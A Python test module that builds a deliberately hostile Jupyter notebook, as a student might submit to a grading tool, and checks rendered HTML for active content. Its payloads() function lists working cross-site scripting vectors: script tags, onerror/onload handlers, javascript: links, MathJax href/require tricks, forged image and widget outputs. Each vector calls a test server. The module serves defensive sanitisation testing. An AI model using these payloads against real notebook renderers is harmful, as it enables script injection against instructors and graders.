"""A notebook that attacks whoever renders it, and a check of rendered HTML for anything active.

`hostile_notebook(release, url)` is the a01 release as `course grade` leaves it for a student who put
scripts, event handlers, iframes, remote images and CSS, `javascript:` links, HTML/SVG/JavaScript/Markdown/
widget outputs, forged images and widget state into markdown, outputs and metadata: each one, when it runs,
sets `window.__pwned` and `document.title = "PWNED"`, and each one loads `url` (a counting server in the
browser test). `active(html, baseline)` lists what a page holds beyond the same page of a harmless notebook:
scripts, event handlers, frames, styles, remote or non-image sources, links other than http(s), mailto,
#anchors and attachment: (a click on which goes nowhere).
"""
from __future__ import annotations

import base64
import copy
from html.parser import HTMLParser

import nbformat
from nbformat import v4

PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNg+M8AAAMBAQAY3Y2wAAAAAElFTkSuQmCC")
URL_ATTRS = {"src", "href", "data", "action", "formaction", "background", "poster", "srcset", "xlink:href",
             "codebase", "cite", "longdesc", "ping", "manifest"}
ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "base", "meta", "link", "style",
               "svg", "math", "video", "audio", "source", "track", "input", "button", "textarea", "select"}


def payloads(url: str) -> dict[str, str]:
    """What each attack is: name -> markup (each sets the marker and requests url/<name>)."""
    def js(name: str) -> str:          # no spaces: it also stands in link destinations and unquoted attributes
        return f"document.title='PWNED';window.__pwned=1;fetch('{url}/{name}')"
    return {
        "js": js("js"),
        "script": f"<script>{js('script')}</script>",
        "img-onerror": f'<img src="{url}/img-onerror" onerror="{js("img-onerror-ran")}">',
        "svg-onload": f'<svg onload="{js("svg-onload")}"><rect width="1" height="1"/></svg>',
        "iframe": f'<iframe src="{url}/iframe"></iframe>',
        "css-link": f'<link rel="stylesheet" href="{url}/css-link">',
        "style": f"<style>@import url({url}/style-import); body{{background:url({url}/style-bg)}}</style>",
        "inline-style": f'<div style="background-image:url({url}/inline-style)">styled</div>',
        "object": f'<object data="{url}/object"></object><embed src="{url}/embed">',
        "details": f'<details open ontoggle="{js("details")}"><summary>x</summary></details>',
        "js-link": f"[click me](javascript:{js('js-link')})",
        "js-link-entity": f"[click me too](&#106;avascript:{js('js-link-entity')})",
        "js-autolink": "<javascript:document.title='PWNED'>",
        "md-image": f"![remote]({url}/md-image)",
        "md-ref-image": f"![ref image][pic]\n\n[pic]: {url}/md-ref-image",
        "mathjax-href": f"$\\href{{javascript:{js('mathjax-href')}}}{{x}}$",
        "mathjax-style": f"$\\style{{background-image:url({url}/mathjax-style)}}{{x}}$",
        "mathjax-require": f"$\\require{{{url}/mathjax-require.js}}$",
    }


def hostile_notebook(release: nbformat.NotebookNode, url: str) -> nbformat.NotebookNode:
    """The release with every hostile payload in the student's cells, outputs and metadata (see the module)."""
    nb = copy.deepcopy(release)
    marks = payloads(url)
    markdown = "\n\n".join(f"{name}: {markup}" for name, markup in marks.items() if name != "js")
    answers = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
    written = next(c for c in answers if c.cell_type == "markdown")
    written.source = "My derivation: $\\frac{\\partial}{\\partial x} x^2 = 2x$.\n\n" + markdown
    written.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{marks["script"]}"/>'.encode()).decode()}}
    written.source += "\n\n![attached svg](attachment:evil.svg)"
    code = next(c for c in answers if c.cell_type == "code")
    code.metadata["tags"] = ["<b>tag</b>"]
    js = marks["js"]
    code.outputs = [
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {
            "text/html": f"{marks['script']}{marks['img-onerror']}<b>html output</b>", "text/plain": "html"}}),
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {"application/javascript": js}}),
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": (
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><image href="{url}/svg-image"/></svg>')}}),
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {"text/markdown": markdown}}),
        nbformat.from_dict({"output_type": "display_data", "metadata": {"image/png": {
            "width": f"1 onload={js}"}}, "data": {"image/png": PNG}}),         # width= is written unquoted
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {
            "image/png": f'"><img src="{url}/forged-png">'}}),
        nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "m0", "version_major": 2, "version_minor": 0},
            "text/plain": "a widget"}}),
        nbformat.from_dict({"output_type": "error", "ename": "ValueError", "evalue": marks["script"],
                            "traceback": [f"\x1b[0;31mValueError\x1b[0m: {marks['img-onerror']}"]}),
    ]
    extra = v4.new_markdown_cell("An extra cell of mine.\n\n" + markdown)
    raw = v4.new_raw_cell(marks["script"] + marks["img-onerror"])
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells[nb.cells.index(written) + 1:nb.cells.index(written) + 1] = [extra, raw]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"m0": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
            "state": {"value": marks["script"] + marks["img-onerror"]}}}}}
    return nb


class _Collect(HTMLParser):
    """Every start tag with its attributes, and the text of each script."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k.lower(): v or "" for k, v in attrs}))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append(dict(attrs).get("src") or "")

    def handle_data(self, data):
        if self._in_script and self.scripts:
            self.scripts[-1] += data

    def handle_endtag(self, tag):
        self._in_script = False


def active(html: str, baseline: str) -> list[str]:
    """What `html` holds that could run, load or link elsewhere, beyond what `baseline` (the same page of a
    harmless notebook: the template's own scripts, styles and links) holds."""
    page, base = _Collect(), _Collect()
    page.feed(html)
    base.feed(baseline)
    known = {(t, k, v) for t, attrs in base.tags for k, v in attrs.items()}
    problems = [f"script {s[:80]!r}" for s in page.scripts if s not in base.scripts]
    counts: dict[str, int] = {}
    for tag, _ in base.tags:
        counts[tag] = counts.get(tag, 0) + 1
    for tag, attrs in page.tags:
        if tag in ACTIVE_TAGS and tag != "script":
            counts[tag] = counts.get(tag, 0) - 1
            if counts[tag] < 0:
                problems.append(f"<{tag}> {attrs}")
        for k, v in attrs.items():
            if (tag, k, v) in known:
                continue
            value = "".join(v.split()).lower()
            if k.startswith("on"):
                problems.append(f"<{tag} {k}={v[:80]!r}>")
            elif k == "style" and ("url(" in value or "expression(" in value):
                problems.append(f"<{tag} style={v[:80]!r}>")
            elif k in URL_ATTRS:
                ok = (tag == "img" and k == "src" and value.startswith(("data:image/png;", "data:image/jpeg;",
                                                                         "data:image/gif;"))) or \
                     (tag == "a" and k == "href" and value.startswith(("http://", "https://", "mailto:", "#",
                                                                        "attachment:")))
                if not ok:
                    problems.append(f"<{tag} {k}={v[:80]!r}>")
    return problems
